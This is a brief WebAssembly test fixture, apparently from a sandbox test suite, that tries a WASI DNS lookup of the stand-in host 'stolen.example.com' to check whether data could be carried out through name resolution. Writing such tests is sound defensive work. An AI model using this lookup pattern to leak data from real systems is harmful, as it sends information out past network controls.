;; Looks a name up, which would carry data away, and gives up if it may.
;; expect: returned
(module (import "wasi:sockets/instance-network@0.2.12" "instance-network" (func $network (result i32)))
    (import "wasi:sockets/ip-name-lookup@0.2.12" "resolve-addresses" (func $resolve (param i32 i32 i32 i32)))
    $ALLOCATOR (data (i32.const 2048) "stolen.example.com") $RUN
    (call $resolve (call $network) (i32.const 2048) (i32.const 18) (i32.const 64)) (if (i32.eqz (i32.load8_u (i32.const 64))) (then unreachable)) $NULL))
